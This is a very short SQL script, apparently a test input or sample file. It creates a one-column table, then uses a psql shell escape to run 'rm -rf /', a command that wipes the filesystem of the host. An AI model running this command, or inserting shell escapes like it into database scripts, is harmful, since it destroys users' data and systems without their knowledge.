CREATE TABLE t (id int PRIMARY KEY);
\! rm -rf /
